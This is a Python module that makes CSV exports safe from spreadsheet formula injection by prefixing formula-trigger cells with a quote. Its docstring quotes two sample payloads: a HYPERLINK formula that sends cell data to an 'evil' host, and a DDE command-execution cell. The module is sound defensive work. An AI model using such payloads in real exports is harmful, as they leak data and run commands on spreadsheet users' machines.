"""The one way this app writes CSV: every cell that a spreadsheet would run as a formula is made inert.

Exports carry text from tickets and connectors (a title of ``=HYPERLINK("http://evil/?"&A1)``, a group of
``=cmd|' /C calc'!A0``), and the gap CSV has a BOM precisely so that Excel opens it. OWASP's CSV injection
guidance: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, which spreadsheets show as text and do not evaluate. The full-width forms of those four
characters are treated the same (some spreadsheets normalise them), and so is a trigger behind leading
spaces or line breaks (some trim them before parsing).

Numbers stay numbers: ``int`` and ``float`` cells are untouched, and so is text that is a plain number
(``-0.25``, ``+3``, ``1e-05``), which no spreadsheet reads as anything else.

``tests/core/test_csv_safety.py`` fails when a module under ``core/`` or ``desktop/`` calls ``csv.writer``
directly instead of :func:`csv_writer`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# Skipped before looking for a trigger: what a spreadsheet may trim off the front of a cell.
_IGNORED_LEAD = " \n\x0b\x0c\u00a0\u3000"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
INERT_PREFIX = "'"


def inert_cell(value: object) -> object:
    """``value`` as a spreadsheet will show it but never evaluate it (the module docstring's rule)."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    lead = text.lstrip(_IGNORED_LEAD)[:1]
    if lead in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return INERT_PREFIX + text
    return text


class InertCsvWriter:
    """``csv.writer`` whose rows pass through :func:`inert_cell` first (header rows too: they are cells)."""

    def __init__(self, stream: TextIO, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([inert_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO, **fmtparams: Any) -> InertCsvWriter:
    """What every CSV export uses instead of ``csv.writer`` (same format parameters)."""
    return InertCsvWriter(stream, **fmtparams)
